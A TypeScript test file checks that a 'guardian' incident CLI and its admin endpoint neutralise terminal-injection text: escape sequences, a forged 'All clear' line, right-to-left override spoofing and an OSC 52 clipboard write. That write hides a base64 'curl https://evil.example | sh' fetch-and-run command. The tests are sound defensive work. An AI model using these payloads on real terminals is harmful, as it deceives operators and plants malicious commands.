/**
 * Attacker-written text in the store never reaches the operator's terminal
 * as control: `guardian incident show|list` (text and --json), through the
 * real CLI (`main`, as bin/guardian.mjs runs it) on a real store file. The
 * store here holds the text raw, as a store written before decode cleaned it
 * would: formatting and printing are walls of their own.
 */
import { existsSync, readFileSync } from "node:fs";
import path from "node:path";
import { describe, expect, it } from "vitest";
import { startAdminServer } from "../../daemon/src/admin/server.js";
import { main } from "../../daemon/src/cli.js";
import { hasUnsafeCharacters } from "../../daemon/src/decode/untrusted-text.js";
import { addTimelineEntry, openIncident } from "../../daemon/src/incidents/index.js";
import { addr, at, evidence, T0 } from "../../daemon/src/incidents/test-builders.js";
import { openLowdbStore } from "../../daemon/src/store/index.js";
import { runCli, tempDir } from "../../daemon/src/store/testing/spawn.js";

const ESC = "\u001b";
const BEL = "\u0007";
const OSC_TITLE = `${ESC}]0;guardian: all clear${BEL}`;
const CLEAR_SCREEN = `${ESC}[2J${ESC}[H`;
const FAKE_LINE = `\r\n${ESC}[32mAll clear: incident resolved by the guardian Safe${ESC}[0m\n`;
const OSC52 = `${ESC}]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZSB8IHNo${BEL}`;
const RLO = "\u202E";
/** An Error(string) an attacker chose, as a detector quoted it. */
const REASON = `reverted "${OSC_TITLE}${CLEAR_SCREEN}${FAKE_LINE}${OSC52}${RLO}exe.sgol"`;

async function cli(cwd: string, argv: string[]) {
  let stdout = "";
  let stderr = "";
  const code = await main(argv, { stdout: (t) => void (stdout += t), stderr: (t) => void (stderr += t), env: {}, cwd, clock: () => at(60), lockWaitMs: 0 });
  return { code, stdout, stderr };
}

async function storeWithAttackerText(cwd: string): Promise<string> {
  let incident = openIncident({
    key: "user-operations:failing",
    title: `User operations failing${CLEAR_SCREEN}`,
    severity: "high",
    affected: { layers: ["entryPoint"], contracts: [addr(1)] },
    source: "user-operations",
    now: T0,
    evidence: evidence(40, { causes: `${REASON} ×5`, failures: 5 }),
  });
  incident = addTimelineEntry(incident, { kind: "finding", message: `5 of 5 user operations failed: ${REASON} ×5.`, evidence: evidence(41, { causes: REASON }) }, at(1));
  const store = await openLowdbStore({ dataDir: path.join(cwd, ".guardian"), chainId: 31337, purpose: "test" });
  await store.update((draft) => {
    draft.incidents[incident.id] = incident;
  });
  await store.close();
  return incident.id;
}

/** No ESC, BEL, CR, C1, bidi or zero-width character; line breaks only where the printer put them. */
function expectInert(output: string): void {
  expect(output).not.toContain(ESC);
  expect(output).not.toContain(BEL);
  expect(output).not.toContain("\r");
  expect(output).not.toContain(RLO);
  expect(hasUnsafeCharacters(output.replaceAll("\n", ""))).toBe(false);
  expect(output).not.toMatch(/^All clear/m); // no forged line
}

describe("attacker-written text in the terminal", () => {
  it("incident show prints none of the escape sequences, the fake line or the RLO; the evidence is still there, as text", async () => {
    const cwd = tempDir();
    const id = await storeWithAttackerText(cwd);
    const show = await cli(cwd, ["incident", "show", id]);
    expect(show).toMatchObject({ code: 0, stderr: "" });
    expectInert(show.stdout);
    expect(show.stdout).toContain("Title       User operations failing[2J[H\n");
    expect(show.stdout).toContain('causes=reverted "]0;guardian: all clear[2J[H  [32mAll clear: incident resolved by the guardian Safe[0m ]52;c;');
    expect(show.stdout).toContain('exe.sgol" ×5');
  });

  it("the same through bin/guardian.mjs in a child process: the bytes on its stdout hold no escape sequence", async () => {
    const cwd = tempDir();
    const id = await storeWithAttackerText(cwd);
    const show = await runCli(["incident", "show", id], { cwd });
    expect(show).toMatchObject({ code: 0, stderr: "" });
    expectInert(show.stdout);
    expect(show.stdout).toContain("]52;c;");
  });

  it("incident list, and --json output (still valid JSON with the stored value)", async () => {
    const cwd = tempDir();
    const id = await storeWithAttackerText(cwd);
    const list = await cli(cwd, ["incident", "list"]);
    expect(list.code).toBe(0);
    expectInert(list.stdout);
    expect(list.stdout).toContain("User operations failing[2J[H");

    const json = await cli(cwd, ["incident", "show", id, "--json"]);
    expect(json.code).toBe(0);
    expectInert(json.stdout);
    const parsed = JSON.parse(json.stdout) as { timeline: Array<{ kind: string; evidence?: { values: Record<string, unknown> } }> };
    expect(parsed.timeline.findLast((e) => e.kind === "finding")?.evidence?.values.causes).toBe(REASON); // the data is kept, only its printing is inert
  });
});

describe("public text typed by operators", () => {
  const ADDRESS = "0x00000000000000000000000000000000000000aa";

  it("incident trigger refuses a --title, --message or --by holding a control or bidi character, naming the field and the character; nothing is written", async () => {
    const cwd = tempDir();
    const title = await cli(cwd, ["incident", "trigger", ADDRESS, "--severity", "high", "--title", `Paymaster drained${ESC}[2J`]);
    expect(title.code).toBe(2);
    expect(title.stderr).toMatch(/--title: expected text without control, bidi or zero-width characters \(found U\+001B, an escape \(terminal control\), at character 18\)/);
    expectInert(title.stderr);
    const message = await cli(cwd, ["incident", "trigger", ADDRESS, "--severity", "high", "--title", "Paymaster drained", "--message", `We are on it ${RLO}gnp.exe`]);
    expect(message.code).toBe(2);
    expect(message.stderr).toMatch(/--message: .*U\+202E, a bidirectional control, at character 14/);
    const by = await cli(cwd, ["incident", "trigger", ADDRESS, "--severity", "high", "--by", "ali\u200Bce"]);
    expect(by.stderr).toMatch(/--by: .*U\+200B, an invisible \(zero-width\) character/);
    expect(existsSync(path.join(cwd, ".guardian", "store.json"))).toBe(false);

    // Ordinary Unicode is welcome.
    const ok = await cli(cwd, ["incident", "trigger", ADDRESS, "--severity", "high", "--title", "Paiements refusés — 账户 🚨"]);
    expect(ok).toMatchObject({ code: 0, stderr: "" });
    const id = ok.stdout.trim();
    const update = await cli(cwd, ["incident", "update", id, "--state", "responding", "--message", `Fixed${BEL}`]);
    expect(update.code).toBe(2);
    expect(update.stderr).toMatch(/--message: .*U\+0007, a control character/);
    expect(readFileSync(path.join(cwd, ".guardian", "store.json"), "utf8")).not.toContain("Fixed");

    // A public update may run over several lines (but a title may not).
    const lines = await cli(cwd, ["incident", "update", id, "--state", "responding", "--message", "Sponsorship is paused.\r\nNo funds have moved."]);
    expect(lines).toMatchObject({ code: 0, stderr: "" });
    const multiTitle = await cli(cwd, ["incident", "trigger", ADDRESS, "--severity", "high", "--title", "Paymaster\ndrained"]);
    expect(multiTitle.stderr).toMatch(/--title: .*U\+000A, a line break/);
    const shown = await cli(cwd, ["incident", "show", id, "--json"]);
    const timeline = (JSON.parse(shown.stdout) as { timeline: { message: string }[] }).timeline;
    expect(timeline.map((e) => e.message)).toContain("Sponsorship is paused.\r\nNo funds have moved.");
  });

  it("the admin endpoint refuses the same with 400, naming the field", async () => {
    const cwd = tempDir();
    const store = await openLowdbStore({ dataDir: path.join(cwd, ".guardian"), chainId: 31337, purpose: "daemon" });
    const token = "test-token-0123456789abcdef";
    const admin = await startAdminServer({ store, token });
    try {
      const res = await fetch(`${admin.url}/v1/incidents`, {
        method: "POST",
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
        body: JSON.stringify({ title: `All clear\u2066 (really)`, severity: "low" }),
      });
      expect(res.status).toBe(400);
      const body = (await res.json()) as { error: { message: string } };
      expect(body.error.message).toMatch(/title: expected text without control, bidi or zero-width characters \(found U\+2066/);
      expect(Object.keys(store.read().incidents)).toEqual([]);
    } finally {
      await admin.close();
      await store.close();
    }
  });
});
